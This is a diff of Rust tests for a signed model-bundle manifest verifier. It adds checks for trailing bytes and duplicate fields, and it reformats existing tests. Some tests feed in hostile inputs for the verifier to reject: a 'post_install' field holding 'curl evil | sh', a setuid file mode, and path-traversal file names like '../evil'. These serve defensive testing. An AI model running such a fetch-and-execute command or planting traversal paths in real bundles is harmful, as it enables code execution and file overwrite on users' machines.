@@ -23,7 +23,11 @@ fn verify_cbor(cbor: &[u8], payload: &[u8]) -> Result<Verified, BundleError> {
 
 /// A valid manifest value with one model file, and its payload.
 fn valid() -> (Value, Vec<u8>) {
-    let (m, payload) = manifest_with(vec![crafted_file("model.onnx", FileRole::Model, b"onnx bytes")]);
+    let (m, payload) = manifest_with(vec![crafted_file(
+        "model.onnx",
+        FileRole::Model,
+        b"onnx bytes",
+    )]);
     (manifest_value(&m), payload)
 }
 
@@ -44,7 +48,13 @@ fn a_newer_format_version_is_unsupported_format() {
     set_field(&mut v, "format", 2.into());
     let result = verify_cbor(&cbor(&v), &payload);
     assert!(
-        matches!(result, Err(BundleError::UnsupportedFormat { found: 2, supported: 1 })),
+        matches!(
+            result,
+            Err(BundleError::UnsupportedFormat {
+                found: 2,
+                supported: 1
+            })
+        ),
         "{}",
         describe(&result)
     );
@@ -60,7 +70,13 @@ fn a_newer_format_with_unknown_fields_is_still_unsupported_format() {
     remove_field(&mut v, "files");
     let result = verify_cbor(&cbor(&v), &payload);
     assert!(
-        matches!(result, Err(BundleError::UnsupportedFormat { found: 2, supported: 1 })),
+        matches!(
+            result,
+            Err(BundleError::UnsupportedFormat {
+                found: 2,
+                supported: 1
+            })
+        ),
         "{}",
         describe(&result)
     );
@@ -107,12 +123,47 @@ fn a_manifest_that_is_not_a_cbor_map_is_malformed() {
 }
 
 #[test]
+fn bytes_after_the_manifest_map_are_malformed() {
+    // Signed and measured but never read, and another parser might read them differently:
+    // the manifest is exactly one CBOR item.
+    let (v, payload) = valid();
+    let extra = cbor(&Value::Map(vec![(
+        Value::Text("sequence".into()),
+        1_000_000u64.into(),
+    )]));
+    let mut bytes = cbor(&v);
+    bytes.extend_from_slice(&extra);
+    let result = verify_cbor(&bytes, &payload);
+    let want = format!("{} bytes after the manifest's CBOR item", extra.len());
+    assert!(
+        matches!(&result, Err(BundleError::MalformedManifest { reason }) if *reason == want),
+        "{}",
+        describe(&result)
+    );
+}
+
+#[test]
+fn a_duplicated_field_is_malformed() {
+    // Which `sequence` counts? Different parsers pick different ones: refuse.
+    let (mut v, payload) = valid();
+    v.as_map_mut()
+        .unwrap()
+        .push((Value::Text("sequence".into()), 1_000_000u64.into()));
+    let result = verify_cbor(&cbor(&v), &payload);
+    assert!(
+        matches!(&result, Err(BundleError::MalformedManifest { reason }) if reason == "duplicate field `sequence`"),
+        "{}",
+        describe(&result)
+    );
+}
+
+#[test]
 fn an_unknown_top_level_field_is_malformed_and_named() {
     let (mut v, payload) = valid();
     set_field(&mut v, "post_install", Value::Text("curl evil | sh".into()));
     let result = verify_cbor(&cbor(&v), &payload);
     assert!(
-        matches!(&result, Err(BundleError::MalformedManifest { reason }) if reason.contains("unknown field `post_install`")),
+        matches!(&result, Err(BundleError::MalformedManifest { reason }) if reason.starts_with("unknown field `post_install`, expected one of")),
         "{}",
         describe(&result)
     );
@@ -131,7 +182,7 @@ fn an_unknown_field_in_a_file_entry_is_malformed_and_named() {
     set_field(entry, "mode", Value::Integer(0o4755.into()));
     let result = verify_cbor(&cbor(&v), &payload);
     assert!(
-        matches!(&result, Err(BundleError::MalformedManifest { reason }) if reason.contains("unknown field `mode`")),
+        matches!(&result, Err(BundleError::MalformedManifest { reason }) if reason.starts_with("unknown field `mode`, expected one of")),
         "{}",
         describe(&result)
     );
@@ -177,7 +228,12 @@ fn a_traversal_manifest_creates_nothing_outside_staging() {
     let staging = parent.path().join("staging");
     std::fs::create_dir(&staging).unwrap();
     let before = tree(parent.path());
-    for path in ["../evil", "../../evil", "/tmp/mint-e2e-evil", "a/../../evil"] {
+    for path in [
+        "../evil",
+        "../../evil",
+        "/tmp/mint-e2e-evil",
+        "a/../../evil",
+    ] {
         let k = key();
         let (m, payload) = manifest_with(vec![crafted_file(path, FileRole::Model, b"pwned")]);
         let bytes = craft_manifest(&m, &[&k], &payload);
@@ -188,7 +244,11 @@ fn a_traversal_manifest_creates_nothing_outside_staging() {
             "{path:?}: {}",
             describe(&result)
         );
-        assert_eq!(tree(parent.path()), before, "{path:?} changed the parent directory");
+        assert_eq!(
+            tree(parent.path()),
+            before,
+            "{path:?} changed the parent directory"
+        );
     }
     assert!(tree(&staging).is_empty(), "staging: {:?}", tree(&staging));
     assert!(!std::path::Path::new("/tmp/mint-e2e-evil").exists());
@@ -308,7 +368,8 @@ fn a_golden_reference_to_a_non_golden_file_is_malformed() {
 fn an_invalid_model_name_is_malformed() {
     // The name becomes a directory and an MQTT topic level.
     for name in ["../mlp", "", "mlp/x", ".mlp", "mlp+"] {
-        let (mut m, payload) = manifest_with(vec![crafted_file("model.onnx", FileRole::Model, b"m")]);
+        let (mut m, payload) =
+            manifest_with(vec![crafted_file("model.onnx", FileRole::Model, b"m")]);
         m.name = name.into();
         let result = verify_cbor(&m.to_cbor().unwrap(), &payload);
         assert!(
